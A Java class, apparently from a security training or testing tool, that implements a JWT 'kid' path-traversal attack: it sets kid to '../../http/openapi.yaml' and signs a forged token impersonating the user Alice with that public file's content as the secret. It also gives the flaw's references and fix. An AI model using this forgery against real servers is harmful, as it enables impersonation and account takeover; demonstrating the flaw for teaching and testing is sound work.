package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Names a file that everybody knows as the key. */
@AutoService(Attack.class)
public final class JwtKidPath extends JwtAttack {
  private static final String KID = "../../http/openapi.yaml";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-kid-path",
        "A known file as the key",
        AttackGroup.JWT,
        "The attacker writes the path of a public file into kid, and signs a token about Alice with that file's content as the secret.",
        "A file on the server whose content is known, and the way to it from the folder of keys.",
        "The server takes kid for the name of a file in that folder, and ../ leads out of it.",
        "kid-as-path",
        List.of("RFC 8725 §3.10", "RFC 7515 §4.1.4", "CWE-22"),
        "Use kid for nothing but to compare it with the names of keys that you have (RFC 8725 §3.10). It is text from a stranger.");
  }

  @Override
  String token(Target target) throws CredentialException, InterruptedException {
    Hop file =
        target.send(
            "Fetch a file that the server shows to everybody.", target.get("/openapi.yaml"));
    target.makes(
        "The program can be downloaded, so everybody can see where that file is, seen from the folder of keys.",
        "path",
        KID);
    return target.makes(
        "Write that path into kid and alice into sub, and sign with the file's content as the secret.",
        "forged token",
        new SharedSecret(file.body())
            .signAs(KID, ownToken(target).withClaim("sub", Loot.VICTIM))
            .text());
  }
}
